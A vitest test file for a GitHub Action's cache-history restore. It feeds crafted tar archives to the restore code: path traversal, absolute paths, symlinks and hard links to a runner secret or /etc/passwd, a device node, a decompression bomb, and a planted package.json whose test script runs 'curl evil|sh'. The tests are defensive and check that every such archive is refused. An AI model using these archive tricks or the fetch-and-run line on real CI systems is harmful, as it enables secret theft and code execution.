// A cache entry is data, not code: crafted archives served by the loopback cache service fake to
// restoreHistory (listing through the REST fake, download and unpacking by the action's own code),
// and the day-file merge under concurrent appends and odd files.
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { pack, type Header } from 'tar-stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cacheVersion, compressionMethod } from '../../src/action/cache/download.js';
import {
  makeCacheLister,
  mergeHistories,
  restoreHistory,
  saveHistory,
  type HistoryLog,
  type HistoryOptions,
} from '../../src/action/history.js';
import {
  captureStdout,
  listActionsCaches,
  start as startCache,
  useClientEnv,
  type FakeCacheService,
} from '../fakes/cache-service.js';
import { start as startApi, type FakeGitHubApi } from '../fakes/github-api.js';

let cacheFake: FakeCacheService;
let api: FakeGitHubApi;
let root: string;
let workspace: string;
let restoreEnv: () => void;
let output: ReturnType<typeof captureStdout>;

beforeEach(async () => {
  cacheFake = await startCache();
  api = await startApi({ cacheEntries: () => listActionsCaches(cacheFake.entries).actions_caches });
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'crafted-'));
  workspace = path.join(root, 'ws');
  fs.mkdirSync(workspace, { recursive: true });
  fs.writeFileSync(path.join(root, 'secret.txt'), 'RUNNER-SECRET\n');
  restoreEnv = useClientEnv(cacheFake, { workspace, temp: path.join(root, 'tmp') });
  output = captureStdout();
});

afterEach(async () => {
  output.restore();
  restoreEnv();
  await cacheFake.stop();
  await api.stop();
  fs.rmSync(root, { recursive: true, force: true });
});

const STAGE = '.dev-metrics-cache';
const DAY = '2025-10-20.jsonl';
const MINE = '{"name":"mine","started_at":"2025-10-20T10:00:00"}';
const GOOD = '{"name":"good","started_at":"2025-10-20T11:00:00"}';

function job(runId: number, jobKey: string, extra: Partial<HistoryOptions> = {}) {
  const metricsDir = path.join(workspace, '.metrics');
  const warnings: string[] = [];
  const log: HistoryLog = {
    info: () => undefined,
    debug: () => undefined,
    warning: (m) => warnings.push(m),
  };
  const options: HistoryOptions = {
    metricsDir,
    keyPrefix: 'dev-metrics-v1-Linux',
    branch: 'main',
    defaultBranch: 'main',
    runId: String(runId),
    runAttempt: 1,
    jobKey,
    lister: makeCacheLister('ghs_fake', 'octo/repo', api.url),
    log,
    cachePath: path.join(workspace, STAGE),
    timeoutMs: 20_000,
    ...extra,
  };
  return { options, warnings, metricsDir };
}

type Member = Partial<Header> & { name: string; body?: string };

/** A tar of `members`, compressed as this machine's @actions/cache would (zstd, else gzip). */
async function archive(members: Member[]): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  p.on('data', (c: unknown) => chunks.push(c as Buffer));
  const done = new Promise<void>((resolve) => p.on('end', () => resolve()));
  for (const { body, ...header } of members) {
    await new Promise<void>((resolve, reject) =>
      p.entry({ mode: 0o644, ...header }, body ?? '', (e) => (e ? reject(e) : resolve())),
    );
  }
  p.finalize();
  await done;
  return compress(Buffer.concat(chunks));
}

async function compress(data: Buffer): Promise<Buffer> {
  return (await compressionMethod()) === 'gzip'
    ? zlib.gzipSync(data)
    : execFileSync('zstd', ['-q', '-c'], { input: data, maxBuffer: 1 << 30 });
}

async function serve(key: string, data: Buffer): Promise<void> {
  const version = cacheVersion([path.join(workspace, STAGE)], await compressionMethod());
  cacheFake.putArchive(key, version, data);
}

const EVIL = 'dev-metrics-v1-Linux-main-66-1-evil-0bad0bad';

/** The victim's own history before the restore: one record. */
function seedWorkspace(): string {
  const dir = path.join(workspace, '.metrics');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, DAY), `${MINE}\n`);
  return dir;
}

/** Every file under `dir` (links not followed), relative, for "nothing else was written". */
function tree(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .map(
      (d) =>
        `${path.relative(root, path.join(d.parentPath, d.name))}${d.isSymbolicLink() ? '@' : ''}`,
    )
    .sort();
}

const day = (name: string, body = `${GOOD}\n`): Member => ({ name: `${STAGE}/${name}`, body });

const crafted: Array<[string, () => Member[], RegExp]> = [
  [
    '`..` traversal',
    () => [day(DAY), { name: `${STAGE}/../../pwned.jsonl`, body: 'x\n' }],
    /'\.\.'/,
  ],
  ['a bare `../` member', () => [{ name: '../2025-10-21.jsonl', body: 'x\n' }], /'\.\.'/],
  [
    'an absolute path',
    () => [day(DAY), { name: path.join(root, 'abs', '2025-10-21.jsonl'), body: 'x\n' }],
    /absolute path/,
  ],
  [
    'a day-file symlink to a runner file',
    () => [{ name: `${STAGE}/${DAY}`, type: 'symlink', linkname: path.join(root, 'secret.txt') }],
    /symlink member/,
  ],
  [
    'a directory symlink, then a file through it',
    () => [{ name: STAGE, type: 'symlink', linkname: path.join(root, 'outside') }, day(DAY)],
    /symlink member/,
  ],
  [
    'a hard link to a runner file',
    () => [{ name: `${STAGE}/${DAY}`, type: 'link', linkname: '../secret.txt' }],
    /link member/,
  ],
  [
    'a directory named like a day file',
    () => [{ name: `${STAGE}/2025-10-21.jsonl`, type: 'directory' }, day(DAY)],
    /unexpected directory/,
  ],
  [
    'a character device',
    () => [{ name: `${STAGE}/${DAY}`, type: 'character-device', devmajor: 1, devminor: 3 }],
    /character-device member/,
  ],
  [
    'a member outside the staging directory',
    () => [day(DAY), { name: 'package.json', body: '{"scripts":{"test":"curl evil|sh"}}' }],
    /unexpected member/,
  ],
  ['the same day file twice', () => [day(DAY), day(DAY, 'second\n')], /appears twice/],
];

describe('crafted cache entries: refused whole, one warning, nothing written', () => {
  it.each(crafted)('%s', async (_label, members, why) => {
    const metrics = seedWorkspace();
    await serve(EVIL, await archive(members()));
    const before = tree(root).filter((f) => !f.startsWith('tmp'));
    const j = job(67, 'victim');
    const result = await restoreHistory(j.options);
    expect(result.restoredKeys).toEqual([]);
    expect(fs.readFileSync(path.join(metrics, DAY), 'utf8')).toBe(`${MINE}\n`);
    expect(tree(root).filter((f) => !f.startsWith('tmp'))).toEqual(before);
    expect(j.warnings, j.warnings.join('\n')).toHaveLength(1);
    expect(j.warnings[0]).toContain(EVIL);
    expect(j.warnings[0]).toMatch(why);
    expect(fs.readdirSync(path.join(root, 'tmp'))).toEqual([]); // scratch removed
  });

  it.each([
    [7, 100],
    [1, 700],
  ])(
    'a decompression bomb (%i day files of %i MiB of zeros from a few KB) is refused, no crash',
    async (files, mib) => {
      const metrics = seedWorkspace();
      // Compressed frames concatenate, so one compressed MiB of zeros repeated stands for the
      // whole stream without ever holding it.
      const MiB = 1 << 20;
      const zeros = await compress(Buffer.alloc(MiB));
      const parts: Buffer[] = [];
      for (let d = 0; d < files; d++) {
        parts.push(
          await compress(tarHeader(`${STAGE}/2025-10-${String(10 + d)}.jsonl`, mib * MiB)),
        );
        for (let i = 0; i < mib; i++) parts.push(zeros);
      }
      parts.push(await compress(Buffer.alloc(1024))); // end-of-archive
      const bomb = Buffer.concat(parts);
      expect(bomb.length).toBeLessThan(100 * 1024);
      await serve(EVIL, bomb);
      const j = job(67, 'victim');
      const started = Date.now();
      const result = await restoreHistory(j.options);
      expect(Date.now() - started).toBeLessThan(15_000);
      expect(result.restoredKeys).toEqual([]);
      expect(j.warnings).toHaveLength(1);
      expect(j.warnings[0]).toMatch(/unpacks to more than 256 MiB/);
      expect(fs.readdirSync(metrics)).toEqual([DAY]);
      expect(fs.readFileSync(path.join(metrics, DAY), 'utf8')).toBe(`${MINE}\n`);
      expect(fs.readdirSync(path.join(root, 'tmp'))).toEqual([]);
    },
    30_000,
  );

  it('a good entry next to a bad one: the good one is merged, one warning names the bad', async () => {
    const metrics = seedWorkspace();
    // The good entry is saved by the official client (saveCache), the bad one crafted.
    const good = job(65, 'good');
    fs.mkdirSync(path.join(root, 'good'), { recursive: true });
    fs.writeFileSync(path.join(root, 'good', DAY), `${GOOD}\n`);
    const saved = await saveHistory({ ...good.options, metricsDir: path.join(root, 'good') });
    expect(saved.saved).toBe(true);
    await serve(
      EVIL,
      await archive([{ name: `${STAGE}/${DAY}`, type: 'symlink', linkname: '/etc/passwd' }]),
    );
    const j = job(67, 'victim');
    const result = await restoreHistory(j.options);
    expect(result.restoredKeys).toEqual([saved.key]);
    expect(fs.readFileSync(path.join(metrics, DAY), 'utf8')).toBe(`${MINE}\n${GOOD}\n`);
    expect(j.warnings).toHaveLength(1);
    expect(j.warnings[0]).toContain(EVIL);
    expect(j.warnings[0]).not.toContain(saved.key!);
  });

  it('a listing that finds zero entries (self-hosted cache): the prefix restore finds the history, said once', async () => {
    const writer = job(70, 'build');
    fs.mkdirSync(path.join(root, 'w'), { recursive: true });
    fs.writeFileSync(path.join(root, 'w', DAY), `${GOOD}\n`);
    expect((await saveHistory({ ...writer.options, metricsDir: path.join(root, 'w') })).saved).toBe(
      true,
    );
    const emptyApi = await startApi({ cacheEntries: () => [] });
    try {
      const j = job(71, 'build', {
        lister: makeCacheLister('ghs_fake', 'octo/repo', emptyApi.url),
      });
      const result = await restoreHistory(j.options);
      expect(result.mode).toBe('fallback');
      expect(result.restoredKeys).toHaveLength(1);
      expect(fs.readFileSync(path.join(j.metricsDir, DAY), 'utf8')).toBe(`${GOOD}\n`);
      expect(j.warnings).toHaveLength(1);
      expect(j.warnings[0]).toMatch(/listing .* parallel jobs needs a listing/);
      // A truly empty cache says nothing.
      cacheFake.entries.length = 0;
      const first = job(72, 'build', {
        lister: makeCacheLister('ghs_fake', 'octo/repo', emptyApi.url),
        metricsDir: path.join(root, 'fresh'),
      });
      expect((await restoreHistory(first.options)).restoredKeys).toEqual([]);
      expect(first.warnings).toEqual([]);
    } finally {
      await emptyApi.stop();
    }
  });
});

/** One ustar header block for a regular file of `size` bytes. */
function tarHeader(name: string, size: number): Buffer {
  const h = Buffer.alloc(512);
  const put = (text: string, at: number) => h.write(text, at, 'latin1');
  put(name, 0);
  put('0000644\0', 100);
  put('0000000\0', 108);
  put('0000000\0', 116);
  put(`${size.toString(8).padStart(11, '0')}\0`, 124);
  put(
    `${Math.floor(Date.now() / 1000)
      .toString(8)
      .padStart(11, '0')}\0`,
    136,
  );
  put('        ', 148);
  put('0', 156);
  put('ustar\0' + '00', 257);
  const sum = h.reduce((acc, byte) => acc + byte, 0);
  put(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return h;
}

describe('merge and save: odd files, torn lines, concurrent appends', () => {
  it('a torn last line gets a newline before the merged lines', async () => {
    const src = path.join(root, 'src');
    const target = path.join(root, 'target');
    fs.mkdirSync(src);
    fs.mkdirSync(target);
    fs.writeFileSync(path.join(src, DAY), `${GOOD}\n`);
    fs.writeFileSync(path.join(target, DAY), `${MINE}\n{"name":"torn`);
    expect(await mergeHistories([src], target)).toBe(1);
    expect(fs.readFileSync(path.join(target, DAY), 'utf8')).toBe(
      `${MINE}\n{"name":"torn\n${GOOD}\n`,
    );
  });

  it('appends made by another process while merges run are all kept', async () => {
    const target = path.join(root, 'target');
    fs.mkdirSync(target);
    fs.writeFileSync(path.join(target, DAY), '');
    const file = path.join(target, DAY);
    const N = 3000;
    // The other process: N appends, one line each, O_APPEND, as the store writes records.
    const child = spawn(process.execPath, [
      '-e',
      `const fs = require('fs');
       for (let i = 0; i < ${N}; i++) {
         fs.appendFileSync(${JSON.stringify(file)}, 'child-' + i + '\\n');
         if (i % 50 === 0) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2);
       }`,
    ]);
    const exited = new Promise((resolve) => child.on('exit', resolve));
    let running = true;
    void exited.then(() => (running = false));
    let merges = 0;
    let expected = 0;
    while (running || merges < 3) {
      const src = path.join(root, `src-${merges}`);
      fs.mkdirSync(src);
      const lines = Array.from({ length: 5000 }, (_, i) => `entry-${merges}-${i}`);
      fs.writeFileSync(path.join(src, DAY), `${lines.join('\n')}\n`);
      expected += await mergeHistories([src], target);
      merges++;
    }
    await exited;
    const got = fs
      .readFileSync(file, 'utf8')
      .split('\n')
      .filter((l) => l !== '');
    const childLines = got.filter((l) => l.startsWith('child-'));
    expect(new Set(childLines).size).toBe(N);
    expect(got.filter((l) => l.startsWith('entry-'))).toHaveLength(expected);
  }, 60_000);

  it('merge skips a directory and a symlink named like day files, merges the other days', async () => {
    const src = path.join(root, 'src');
    const target = path.join(root, 'target');
    fs.mkdirSync(src);
    fs.mkdirSync(path.join(target, '2025-10-21.jsonl'), { recursive: true });
    fs.symlinkSync(path.join(root, 'secret.txt'), path.join(target, '2025-10-22.jsonl'));
    for (const d of [DAY, '2025-10-21.jsonl', '2025-10-22.jsonl']) {
      fs.writeFileSync(path.join(src, d), `${GOOD}\n`);
    }
    const warnings: string[] = [];
    expect(await mergeHistories([src], target, { warning: (m) => warnings.push(m) })).toBe(1);
    expect(fs.readFileSync(path.join(target, DAY), 'utf8')).toBe(`${GOOD}\n`);
    expect(fs.readFileSync(path.join(root, 'secret.txt'), 'utf8')).toBe('RUNNER-SECRET\n');
    expect(fs.lstatSync(path.join(target, '2025-10-22.jsonl')).isSymbolicLink()).toBe(true);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/2025-10-21\.jsonl, 2025-10-22\.jsonl .* not a regular file/);
  });

  it('save skips a directory, a symlink and a FIFO named like day files and saves the rest', async () => {
    const w = job(80, 'build');
    const dir = w.metricsDir;
    fs.mkdirSync(path.join(dir, '2025-10-21.jsonl'), { recursive: true });
    fs.symlinkSync(path.join(root, 'secret.txt'), path.join(dir, '2025-10-22.jsonl'));
    execFileSync('mkfifo', [path.join(dir, '2025-10-23.jsonl')]);
    fs.writeFileSync(path.join(dir, DAY), `${GOOD}\n`);
    const saved = await saveHistory(w.options);
    expect(saved.saved).toBe(true);
    expect(w.warnings).toEqual([]);
    const r = job(81, 'build', { metricsDir: path.join(root, 'reader') });
    await restoreHistory(r.options);
    expect(fs.readdirSync(path.join(root, 'reader'))).toEqual([DAY]);
    expect(fs.readFileSync(path.join(root, 'reader', DAY), 'utf8')).toBe(`${GOOD}\n`);
    expect(r.warnings).toEqual([]);
  });
});
